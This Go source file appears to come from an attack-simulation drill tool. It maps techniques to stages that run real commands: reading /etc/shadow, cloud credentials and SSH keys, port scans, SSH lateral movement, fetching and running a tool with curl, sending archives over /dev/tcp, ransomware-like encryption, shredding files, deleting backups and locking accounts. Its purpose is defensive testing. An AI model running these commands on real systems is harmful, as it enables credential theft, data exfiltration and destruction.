package drill

import (
	"bytes"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/base32"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

var moreBodies = map[string]func(*stage) error{
	"shadow-read":      reads("cat", "/etc/shadow"),
	"memory-read":      onSleeper("dump"),
	"secret-files":     reads("cat", "/root/.aws/credentials"),
	"private-keys":     reads("tar", "-cf", "keys.tar", "/root/.ssh/id_ed25519"),
	"history-searched": reads("grep", "-iE", "password|passwd|token", "/root/.bash_history"),
	"browser-store":    reads("cp", "/root/.mozilla/firefox/x.default/logins.json", "logins.json"),
	"password-store":   reads("cp", "/root/vault.kdbx", "v"),
	"ticket-cache": func(s *stage) error {
		path := "/tmp/krb5cc_" + filepath.Base(s.dir)
		if err := note(s.dir, entry{Mark: s.mark, Undo: "remove", Path: path}); err != nil {
			return err
		}
		// Everybody may write in /tmp: what is there already is somebody else's.
		f, err := os.OpenFile(path, os.O_CREATE|os.O_EXCL|os.O_WRONLY|unix.O_NOFOLLOW, 0o600)
		if err != nil {
			return fmt.Errorf("making a ticket cache: %w", err)
		}
		_, err = f.WriteString("made up\n")
		if err = errors.Join(err, f.Close()); err != nil {
			return fmt.Errorf("writing a ticket cache: %w", err)
		}
		return s.run("cp", path, "tickets")
	},
	"sniffer":   openPacketSocket,
	"arp-spoof": forgeAnswer,

	"discover-host":     all(reads("uname", "-a"), reads("whoami"), reads("id"), reads("hostname"), reads("ps", "aux"), reads("date"), reads("df", "-h"), may(reads("systemctl", "--no-pager", "list-units")), may(reads("uptime"))),
	"discover-accounts": all(reads("cat", "/etc/passwd"), reads("getent", "passwd"), reads("getent", "group"), reads("id"), reads("groups"), reads("cat", "/etc/login.defs"), may(reads("chage", "-l", "root")), may(reads("w"))),
	"discover-network":  all(reads("ip", "addr"), reads("ip", "route"), reads("ip", "neigh"), reads("ss", "-tanp"), reads("cat", "/etc/hosts"), may(reads("arp", "-a")), may(reads("netstat", "-rn"))),
	"port-scan":         scan,
	"security-software": all(reads("pgrep", "-l", "falco"), reads("pgrep", "-l", "auditd"), reads("pgrep", "-l", "clamd"), reads("pgrep", "-l", "ossec")),
	"logs-listed":       all(reads("last", "-n", "5"), may(reads("lastlog", "-u", "root")), reads("grep", "-c", "Failed password", "/var/log/auth.log")),
	"machine-check":     all(reads("cat", "/sys/class/dmi/id/product_name", "/sys/class/dmi/id/sys_vendor"), may(reads("systemd-detect-virt"))),
	"drivers-listed":    all(reads("cat", "/proc/modules"), may(reads("lsmod"))),
	"files-searched":    reads("find", "/usr/bin", "-perm", "-4000", "-type", "f"),

	"ssh-onward": func(s *stage) error {
		return s.talk(peerSink, netPeer+":22", func() error {
			return s.run("ssh", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "root@"+netPeer, "id")
		})
	},
	"tool-sent": func(s *stage) error {
		if err := s.inert(filepath.Join(s.scratch, "tool")); err != nil {
			return err
		}
		return s.talk(peerSink, netPeer+":22", func() error {
			return s.run("scp", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "tool", "root@"+netPeer+":/tmp/")
		})
	},
	"archive": func(s *stage) error {
		from, err := s.documents(20)
		if err != nil {
			return err
		}
		to, err := s.place("/dev/shm", true)
		if err != nil {
			return err
		}
		return s.run("tar", "-czf", filepath.Join(to, "d.tgz"), from)
	},
	"staging": func(s *stage) error {
		from, err := s.documents(20)
		if err != nil {
			return err
		}
		to, err := s.place("/var/tmp", true)
		if err != nil {
			return err
		}
		return s.run("find", from, "-name", "*.txt", "-exec", "cp", "{}", to, ";")
	},
	"web-beacon":      byImplant("/dev/shm", peerWeb, netPeer+":80", "dial", 4),
	"dns-tunnel":      func(s *stage) error { return s.ask(60, func() string { return madeUp(60) + ".t.example.com" }) },
	"made-up-domains": func(s *stage) error { return s.ask(40, func() string { return madeUp(16) + ".example" }) },
	"raw-protocol":    sendRaw,
	"odd-port":        byImplant("/var/tmp", peerSink, netPeer+":31337", "dial", 1),
	"tool-fetched": func(s *stage) error {
		dir, err := s.place("/tmp", false)
		if err != nil {
			return err
		}
		tool := filepath.Join(dir, "tool")
		return s.talk(peerWeb, netPeer+":80", func() error {
			if err := s.run("curl", "-s", "-m", "5", "-o", tool, "http://"+netPeer+"/tool"); err != nil {
				return err
			}
			return errors.Join(s.run("chmod", "+x", tool), attempt(s.command(tool)))
		})
	},
	"proxy": func(s *stage) error {
		agent, err := s.implant("/var/tmp", "agent")
		if err != nil {
			return err
		}
		return s.talk(peerSink, netNext+":9001", func() error {
			cmd := s.copied(agent, "proxy", netPeer+":9000", netNext+":9001")
			if err := cmd.Start(); err != nil {
				return fmt.Errorf("starting the proxy: %w", err)
			}
			dialled := s.ctx
			if err := until(dialled, func() bool { return s.part("dial", netPeer+":9000") == nil }); err != nil {
				return err
			}
			return cmd.Wait()
		})
	},
	"sent-plain": func(s *stage) error {
		from, err := s.documents(20)
		if err != nil {
			return err
		}
		return s.talk(peerSink, netPeer+":8081", func() error {
			return s.run("bash", "-c", "tar -c "+from+" 2>/dev/null >/dev/tcp/"+netPeer+"/8081")
		})
	},
	"sent-by-implant": byImplant("/dev/shm", peerSink, netPeer+":443", "send", 1),
	"sent-by-web": func(s *stage) error {
		from, err := s.documents(1)
		if err != nil {
			return err
		}
		return s.talk(peerWeb, netPeer+":80", func() error {
			return s.run("curl", "-s", "-m", "5", "-T", filepath.Join(from, "report-000.txt"), "http://"+netPeer+"/up")
		})
	},

	"mining": func(s *stage) error {
		return s.named(findTool("sleep"), "xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "nobody")
	},
	"encryption": encrypt,
	"destruction": func(s *stage) error {
		dir, err := s.documents(20)
		if err != nil {
			return err
		}
		files, err := filepath.Glob(filepath.Join(dir, "*"))
		if err != nil {
			return err
		}
		return s.run("shred", append([]string{"-u", "-n", "1"}, files...)...)
	},
	"service-stop": func(s *stage) error {
		return s.run("systemctl", "--no-block", "stop", "vedette-drill-that-is-not-there.service")
	},
	"backups-removed": func(s *stage) error { return s.sh("rm -rf /var/backups/*") },
	"defacement":      adds("/etc/motd", "A drill was here.\n", "/etc/update-motd.d/99-vedette-drill", "#!/bin/sh\necho A drill was here.\n"),
	"account-locked": owning("/etc/shadow", func(s *stage, _ string) error {
		return s.run("sed", "-i", "s/^\\([^:]*\\):/\\1:!/", "/etc/shadow")
	}),
	"data-changed": adds("/etc/hosts", "# a drill was here\n"),
}

// reads runs one of the host's programs.
func reads(name string, args ...string) func(*stage) error {
	return func(s *stage) error { return s.run(name, args...) }
}

// may leaves out what the host does not have.
func may(do func(*stage) error) func(*stage) error {
	return func(s *stage) error {
		if err := do(s); !errors.Is(err, errSkip) {
			return err
		}
		return nil
	}
}

// all does one after the other, as somebody would who looks around.
func all(do ...func(*stage) error) func(*stage) error {
	return func(s *stage) error {
		for _, f := range do {
			if err := f(s); err != nil {
				return err
			}
		}
		return nil
	}
}

// byImplant has a copy of this program in an odd place talk to the other side.
func byImplant(parent, kind, address, part string, times int) func(*stage) error {
	return func(s *stage) error {
		agent, err := s.implant(parent, "agent")
		if err != nil {
			return err
		}
		return s.talk(kind, address, func() error {
			for range times {
				if err := s.copied(agent, part, address).Run(); err != nil {
					return err
				}
			}
			return nil
		})
	}
}

// madeUp is a label of letters and digits, at most 63 (RFC 1035).
func madeUp(n int) string {
	raw := make([]byte, n)
	_, _ = rand.Read(raw) // never fails
	return strings.ToLower(base32.StdEncoding.EncodeToString(raw)[:n])
}

func (s *stage) ask(n int, name func() string) error {
	names := make([]string, n)
	for i := range names {
		names[i] = name()
	}
	return s.talk(peerName, netName+":53", func() error { return ask(s.ctx, names) })
}

// scan tries ports where nobody listens.
func scan(s *stage) error {
	for port := range 200 {
		c, err := (&net.Dialer{Timeout: turn}).DialContext(s.ctx, "tcp", fmt.Sprintf("%s:%d", netPeer, 1000+port))
		if err == nil {
			_ = c.Close()
		}
	}
	return nil
}

// relay hands one connection on, what comes from either side to the other one.
func relay(ctx context.Context, listen, to string) error {
	l, err := (&net.ListenConfig{}).Listen(ctx, "tcp", listen)
	if err != nil {
		return fmt.Errorf("listening: %w", err)
	}
	defer l.Close()
	in, err := l.Accept()
	if err != nil {
		return fmt.Errorf("accepting: %w", err)
	}
	defer in.Close()
	out, err := (&net.Dialer{Timeout: turn}).DialContext(ctx, "tcp", to)
	if err != nil {
		return fmt.Errorf("handing on: %w", err)
	}
	defer out.Close()
	if err := errors.Join(in.SetDeadline(time.Now().Add(turn)), out.SetDeadline(time.Now().Add(turn))); err != nil {
		return err
	}
	_, _ = io.Copy(out, in) // it ends when the caller does
	return nil
}

// encrypt does to made-up documents what ransomware does, with a key that is thrown away.
func encrypt(s *stage) error {
	dir, err := s.documents(200)
	if err != nil {
		return err
	}
	files, err := filepath.Glob(filepath.Join(dir, "*.txt"))
	if err != nil {
		return err
	}
	key := make([]byte, 32)
	_, _ = rand.Read(key) // never fails
	block, err := aes.NewCipher(key)
	if err != nil {
		return err
	}
	stream := cipher.NewCTR(block, make([]byte, aes.BlockSize))
	for _, file := range files {
		raw, err := os.ReadFile(file)
		if err != nil {
			return err
		}
		stream.XORKeyStream(raw, bytes.Clone(raw))
		if err := errors.Join(os.WriteFile(file, raw, 0o600), os.Rename(file, file+".locked")); err != nil {
			return err
		}
	}
	return s.write(filepath.Join(dir, "README_TO_RESTORE.txt"), "A drill was here; there is nothing to restore.\n")
}
